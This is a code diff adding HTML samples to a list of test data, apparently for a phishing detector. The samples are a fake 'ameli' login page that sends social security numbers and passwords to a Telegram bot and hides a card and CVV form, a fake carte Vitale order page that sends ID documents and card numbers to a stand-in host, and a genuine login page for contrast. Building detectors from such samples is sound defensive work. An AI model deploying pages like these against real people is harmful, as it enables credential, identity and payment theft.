@@ -127,6 +127,33 @@ SAMPLES: list[tuple[str, dict[str, str]]] = [
         "bloquée. Réclamez votre formation avant expiration de vos droits. Envoie-moi un message sur WhatsApp.",
         {},
     ),
+    # --- web pages (issue 9): a kit login page, a fake carte Vitale order page, the genuine login page.
+    (
+        '<!doctype html><html><head><title>Connexion à mon compte ameli</title>'
+        '<link rel="icon" href="https://www.ameli.fr/favicon.ico"></head><body>'
+        '<img src="https://assure.ameli.fr/img/logo-ameli.png" alt="ameli"><h1>Mon compte ameli</h1>'
+        '<form action="https://api.telegram.org/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendMessage">'
+        '<input name="nir" placeholder="Numéro de sécurité sociale"><input type="password" name="pw"></form>'
+        '<div style="display:none"><form action="mail.php"><input name="cc" placeholder="Numéro de carte">'
+        '<input name="cvv" placeholder="Cryptogramme"></form></div><p>Paiement 100% sécurisé</p>'
+        '<script>if (navigator.webdriver) {} eval(atob("YWxlcnQoMSk="))</script></body></html>',
+        {"kind": "webpage", "url": "https://ameli-compte-securise.com/connexion"},
+    ),
+    (
+        "<html><head><title>Commande de carte Vitale - Assurance Maladie</title></head><body>"
+        "<h1>Commandez votre nouvelle carte Vitale</h1><form action='https://collecte.example.net/upload'>"
+        "<label for=id>Pièce d'identité (recto verso)</label><input type=file id=id name=piece>"
+        "<label for=dom>Justificatif de domicile</label><input type=file id=dom name=facture>"
+        "<p>Frais d'envoi : 1,99 €</p><input name=cardnumber autocomplete=cc-number>"
+        "<input name=exp autocomplete=cc-exp></form></body></html>",
+        {"kind": "webpage", "url": "https://commande-vitale.example.org/"},
+    ),
+    (
+        "<html><head><title>Connexion à mon compte ameli</title></head><body><h1>Mon compte ameli</h1>"
+        "<form action='/PortailAS/appmanager/PortailAS/assure' method=post>"
+        "<input name=nir placeholder='Numéro de sécurité sociale'><input type=password name=pw></form></body></html>",
+        {"kind": "webpage", "url": "https://assure.ameli.fr/PortailAS/appmanager/PortailAS/assure"},
+    ),
 ]
 
 
